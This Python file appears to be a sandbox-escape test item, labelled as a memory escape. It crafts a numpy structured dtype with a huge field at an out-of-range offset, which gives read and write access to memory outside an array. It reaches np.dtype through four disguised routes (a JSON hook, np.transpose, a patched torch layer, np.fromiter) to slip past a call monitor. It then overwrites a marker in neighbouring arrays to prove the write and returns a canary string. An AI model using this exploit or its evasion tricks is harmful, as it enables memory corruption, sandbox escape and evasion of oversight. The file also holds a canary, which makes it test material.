"""Class: memory. Source: own find. Escape: memory outside is read and written. numpy's dtype is called by others
than the technique: a reader of JSON, a layer, numpy itself. Its description says where in an item a field lies."""

import json

import numpy as np
import torch

WINDOW = {"names": ["w"], "formats": ["268435448i8"], "offsets": [64], "itemsize": 8}
MARK = 0x1234567812345678


class Transposed:
    transpose = np.dtype


def by_layer():
    layer = torch.nn.Identity()
    layer.forward = np.dtype
    return layer(WINDOW)


def look(window):
    small, others = [], []
    for i in range(3000):
        others.append(np.full(8, MARK, dtype="i8"))
        if i % 100 == 0:
            small.append(np.zeros(1, dtype=window))
    for each in small:
        found = each["w"][0]
        here = [i for i, x in enumerate(found[: 1 << 12].tolist()) if x == MARK]
        if here:
            found[here[0]] = 77
            if any(77 in other.tolist() for other in others):
                return True
    return False


def attack(model, tokenizer, address):
    ways = (
        lambda: json.loads(json.dumps(WINDOW), object_hook=np.dtype),
        lambda: np.transpose(Transposed(), WINDOW),
        by_layer,
        lambda: np.fromiter([], dtype=WINDOW).dtype,
    )
    for way in ways:
        try:
            window = way()
        except Exception:
            continue
        if look(window):
            return "canary-" + "5d1f"
